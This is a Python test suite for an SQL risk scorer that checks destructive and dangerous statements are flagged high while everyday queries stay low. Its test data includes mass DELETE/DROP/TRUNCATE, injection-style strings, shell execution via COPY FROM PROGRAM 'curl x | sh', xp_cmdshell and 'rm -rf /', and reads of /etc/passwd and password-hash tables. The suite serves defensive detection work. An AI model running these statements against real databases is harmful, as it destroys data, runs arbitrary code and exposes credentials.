"""SQL: what removes or changes everything is found in any dialect, at any depth; literals and everyday use are not."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from services.approval.risk import Level
from services.approval.risk.languages import sql
from services.approval.risk.model import Factor
from services.approval.risk.scoring import HIGH, MEDIUM, conclude
from tests.support.patience import ends


def level(text: str) -> Level:
    return conclude(sql.assess(text, certain=True)).level


def weight(text: str, id: str) -> int:
    return max((f.weight for f in sql.assess(text, certain=True) if f.id == f"database.{id}"), default=0)


EVERYDAY = [
    "SELECT * FROM users WHERE id = 1",
    "select count(*), max(created_at) from orders group by 1 having count(*) > 3 order by 2 desc limit 10;",
    "SELECT 'drop table x', \"delete from t\" FROM t -- delete from t",
    "SELECT 1 /* DROP TABLE users; */",
    "INSERT INTO t (a, b) VALUES (1, 'delete from users'), (2, 'it''s; drop table x')",
    "UPDATE users SET name = 'x' WHERE id = 3",
    "DELETE FROM sessions WHERE expires_at < now()",
    "DELETE FROM t WHERE id IN (SELECT id FROM old WHERE seen = false)",
    "DELETE FROM t WHERE id IN (SELECT id FROM t WHERE seen = false)",
    "DELETE FROM t WHERE id IN (SELECT id FROM gone)",
    "DELETE FROM t WHERE id = @id",
    "UPDATE t SET a = 1 WHERE id = %s AND b = %(name)s",
    "UPDATE t SET a = ?, b = :b WHERE id = $1",
    "CREATE TABLE t (id int PRIMARY KEY, u int REFERENCES users(id) ON DELETE CASCADE ON UPDATE SET NULL)",
    "CREATE TABLE IF NOT EXISTS `order` (`id` int AUTO_INCREMENT, `drop` text) ENGINE=InnoDB",
    "CREATE INDEX CONCURRENTLY i ON t (a); CREATE UNIQUE INDEX j ON t (b);",
    "CREATE OR REPLACE VIEW v AS SELECT 1",
    "ALTER TABLE t ADD COLUMN b int DEFAULT 0",
    "SELECT * FROM t FOR UPDATE",
    "INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET a = 1",
    "INSERT INTO t VALUES (1) ON DUPLICATE KEY UPDATE a = 1",
    "EXPLAIN DELETE FROM t",
    "EXPLAIN ANALYZE SELECT * FROM t",
    "SHOW TABLES; DESCRIBE t; USE app;",
    "BEGIN; UPDATE a SET x = x - 1 WHERE id = 1; UPDATE a SET x = x + 1 WHERE id = 2; COMMIT;",
    "WITH recent AS (SELECT * FROM t WHERE d > '2024-01-01') SELECT avg(x) FROM recent JOIN u USING (id)",
    "SELECT $tag$ DROP TABLE t; $tag$",
    "SELECT E'it\\'s; DROP TABLE t'",
    "SET search_path TO app; VACUUM ANALYZE t; REINDEX TABLE t;",
    "PRAGMA table_info(users)",
    ".tables\n.schema users\nSELECT * FROM users;",
    "\\dt\n\\d users\nselect 1;",
    "COPY t FROM STDIN WITH CSV",
    "MERGE INTO t USING s ON t.i = s.i WHEN MATCHED THEN UPDATE SET a = 1 WHEN NOT MATCHED THEN INSERT (i) VALUES (1)",
    "SELECT TOP 10 [name], [drop] FROM [dbo].[users] WITH (NOLOCK)",
    "DECLARE @x INT = 1; SELECT @x; PRINT 'done'\nGO\nSELECT 2\nGO",
    "CREATE FUNCTION one() RETURNS int AS $$ SELECT 1 $$ LANGUAGE sql",
    "CREATE TRIGGER t AFTER UPDATE ON a FOR EACH ROW EXECUTE FUNCTION touch()",
    "SELECT JSON_EXTRACT(body, '$.delete') FROM events WHERE kind = 'truncate'",
    "COMMENT ON TABLE t IS 'drop me'",
    "",
    "db.users.find({name: 'x'}).limit(5)",
]
EVERY_ROW = [
    "DELETE FROM users",
    "delete\nfrom\nusers;",
    "DELETE FROM users -- WHERE id = 1",
    "DELETE FROM users /* WHERE id = 1 */",
    "DELETE FROM users # WHERE id = 1",
    "DELETE FROM users WHERE 1=1",
    "DELETE FROM users WHERE TRUE",
    "DELETE FROM users WHERE id = id",
    "DELETE FROM users WHERE 'a'='a'",
    "DELETE FROM users WHERE 1 < 2",
    "DELETE FROM users WHERE id = 3 OR TRUE",
    "DELETE FROM users WHERE NOT FALSE",
    "DELETE FROM users WHERE NOT (1 = 2)",
    "DELETE FROM users WHERE name LIKE '%'",
    "DELETE FROM users WHERE (((1)))",
    "DELETE FROM users WHERE 1 IN (1)",
    "DELETE FROM users WHERE ''=''",
    "DELETE FROM users WHERE COALESCE(1, 0) = 1",
    "WITH gone AS (DELETE FROM t RETURNING *) SELECT count(*) FROM gone",
    "EXPLAIN ANALYZE DELETE FROM t",
    "SELECT 1; SELECT 2; DELETE FROM `users`",
    "BEGIN DELETE FROM t; END",
    "CREATE PROCEDURE p AS BEGIN SELECT 1; DELETE FROM t; END",
    "DO $$ BEGIN DELETE FROM t; END $$",
    "SELECT 1 DELETE FROM t",
    "IF EXISTS (SELECT 1 FROM t) DELETE FROM t",
    "/*!50000 DELETE FROM t */",
    "/* /* nested */ DELETE FROM t; */ SELECT 1",
    "SELECT '\\'; DELETE FROM t; --'",
    "EXECUTE IMMEDIATE 'DELETE FROM t'",
    "EXEC sp_executesql N'DELETE FROM t'",
    "PREPARE s FROM 'DELETE FROM t'",
    "DELIMITER //\nCREATE PROCEDURE p() BEGIN DELETE FROM t; END //\nDELIMITER ;",
    "DELETE FROM \ufffc",
]


@pytest.mark.parametrize("text", EVERYDAY)
def test_everyday_statements_are_low(text: str) -> None:
    assert level(text) is Level.LOW, sql.assess(text, certain=True)


@pytest.mark.parametrize("text", EVERY_ROW)
def test_deleting_every_row_is_high(text: str) -> None:
    assert weight(text, "delete-all") == HIGH, sql.assess(text, certain=True)


@pytest.mark.parametrize(
    ("text", "id"),
    [
        ("UPDATE users SET admin = true", "update-all"),
        ("UPDATE users SET admin = true WHERE 1=1", "update-all"),
        ("DROP TABLE users", "drop"),
        ("DROP TABLE IF EXISTS a, b CASCADE", "drop"),
        ("DROP DATABASE app", "drop"),
        ("DROP SCHEMA public CASCADE", "drop"),
        ("DROP OWNED BY app", "drop"),
        ("TRUNCATE a, b RESTART IDENTITY CASCADE", "truncate"),
        ("TRUNCATE TABLE users", "truncate"),
        ("truncate users, sessions cascade;", "truncate"),
        ("INSERT OVERWRITE TABLE t SELECT * FROM s", "overwrite"),
        ("COPY t FROM PROGRAM 'curl x | sh'", "program"),
        ("EXEC xp_cmdshell 'dir'", "program"),
        ("EXEC master..xp_cmdshell 'whoami'", "program"),
        ("SELECT load_file('/etc/passwd')", "program"),
        ("SELECT pg_read_file('/etc/passwd')", "program"),
        ("SELECT lo_export(1, '/tmp/x')", "program"),
        ("SELECT * INTO OUTFILE '/var/www/x.php' FROM t", "program"),
        ("LOAD DATA LOCAL INFILE '/etc/passwd' INTO TABLE t", "program"),
        ("CREATE FUNCTION sys_exec RETURNS string SONAME 'lib.so'", "program"),
        ("CREATE FUNCTION f() RETURNS void AS 'import os' LANGUAGE plpython3u", "program"),
        ("CREATE EXTENSION plpython3u", "program"),
        ("\\! rm -rf /", "program"),
        (".shell id", "program"),
        ("\\copy t to program 'nc x 1'", "program"),
        ("FLUSHALL", "flush"),
        ("db.users.drop()", "drop"),
        ("db.users.deleteMany({})", "delete-all"),
        ("use app\ndb.dropDatabase()", "drop"),
    ],
)
def test_what_is_high_on_its_own(text: str, id: str) -> None:
    assert weight(text, id) >= HIGH, sql.assess(text, certain=True)


@pytest.mark.parametrize(
    "text",
    [
        "GRANT ALL PRIVILEGES ON *.* TO 'x'@'%' WITH GRANT OPTION",
        "REVOKE SELECT ON t FROM app",
        "CREATE USER x WITH SUPERUSER PASSWORD 'y'",
        "ALTER ROLE app SUPERUSER",
        "CREATE LOGIN x WITH PASSWORD = 'y'",
        "DROP USER x",
        "DROP INDEX i",
        "ALTER TABLE t DROP COLUMN a",
        "ALTER TABLE t DROP PARTITION p0",
        "CREATE OR REPLACE TABLE t AS SELECT 1",
        "SHUTDOWN",
        "SET GLOBAL general_log = 'ON'",
        "ALTER SYSTEM SET archive_command = 'x'",
        "KILL 5",
        "RESET MASTER",
        "PURGE BINARY LOGS TO 'x'",
        "RESTORE DATABASE x FROM DISK = 'x.bak'",
        "SELECT pg_terminate_backend(pid) FROM pg_stat_activity",
        "SELECT user, authentication_string FROM mysql.user",
        "SELECT usename, passwd FROM pg_shadow",
        "SELECT * FROM t WHERE id = 1 AND SLEEP(10)",
        "SELECT pg_sleep(1000)",
        "SELECT * FROM dblink('host=x', 'select 1') AS t(a int)",
        "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE",
        "DELETE FROM t WHERE id > 0",
        "DELETE FROM t WHERE id IS NOT NULL",
        "DELETE FROM t LIMIT 10",
        "COPY t TO '/tmp/x.csv'",
        "EXEC('DROP TABLE ' + @name)",
        "PRAGMA writable_schema = 1",
    ],
)
def test_what_a_person_should_see(text: str) -> None:
    found = level(text)
    assert found >= Level.MEDIUM, sql.assess(text, certain=True)
    assert found is not Level.UNKNOWN


@pytest.mark.parametrize(
    "text",
    [
        "frobnicate the widgets",
        "DELETE FROM WHERE x",
        "SELECT 'never ends; DROP TABLE x",
        "SELECT 1 /* never ends: DROP TABLE x",
        "UPDATE t SET a = = 1 WHERE b = 2",
        "DELETE FROM t WHERE " + "(" * 5000 + "1" + ")" * 5000,
        "DELETE FROM t WHERE " + "NOT " * 5000 + "a",
    ],
)
def test_what_cannot_be_read_is_unknown(text: str) -> None:
    assert level(text) >= Level.UNKNOWN


@pytest.mark.parametrize(
    "text", ["truncate users, sessions cascade;", "DROP TABLE x", "delete from t", "update t set a = 1"]
)
def test_a_statement_is_seen_without_being_told(text: str) -> None:
    assert max(factor.weight for factor in sql.assess(text)) >= HIGH


def test_text_that_is_no_statement_is_none_unless_it_is_said_to_be() -> None:
    for text in ("job-1", "drop me a line", "create the report", "run it and delete the rest", "", "Update"):
        assert sql.assess(text) == []


@pytest.mark.parametrize(
    "text",
    [
        "(" * 200_000,
        "DELETE FROM t WHERE " + "(" * 100_000,
        "DELETE FROM t WHERE a IN (" + "1," * 60_000 + "1)",
        "DELETE FROM t WHERE " + "a = 1 OR " * 20_000 + "b",
        "DELETE FROM t WHERE a = '" + "x" * 199_000,
        "$$" * 99_000,
        "".join(f"$a{i}$" for i in range(20_000)),
        "/*" * 99_000,
        "/* */" * 39_000 + "DELETE FROM t",
        "DELETE FROM t;" * 14_000,
        "x DELETE y " * 18_000,
        "BEGIN IF a THEN DELETE FROM t WHERE b = c " * 4_000,
        "DO '" * 49_000,
        "EXEC 'EXEC ''EXEC ''''DELETE FROM t " * 5_000,
        "DELETE FROM a " + "JOIN b " * 28_000,
        "[" * 199_000,
        "CREATE TABLE t (" + "a STRUCT<" * 20_000,
        "é" * 199_000 + "drop",
    ],
    ids=range(18),
)
def test_any_text_of_the_largest_size_is_read_in_time(text: str) -> None:
    with ends():
        sql.assess(text[: sql.MAX_SQL], certain=True)


@settings(max_examples=150, deadline=None)
@given(
    st.lists(
        st.sampled_from([*EVERYDAY, *EVERY_ROW, "'", '"', "$$", "/*", "*/", "--", ";", "(", ")", "\n", "BEGIN", "THEN"])
    ).map(" ".join),
    st.integers(0, 400),
)
def test_no_text_raises(text: str, cut: int) -> None:
    assert all(isinstance(factor, Factor) for factor in sql.assess(text[cut:], certain=True))
    sql.assess(text[:cut])


@settings(max_examples=60, deadline=None)
@given(st.sampled_from(EVERY_ROW), st.sampled_from(["SELECT 1;", "INSERT INTO t VALUES ('a');", "COMMIT;"]))
def test_statements_beside_it_hide_nothing(text: str, other: str) -> None:
    assert weight(f"{other}\n{text}", "delete-all") >= MEDIUM
    assert weight(f"{text}\n;{other}", "delete-all") >= MEDIUM
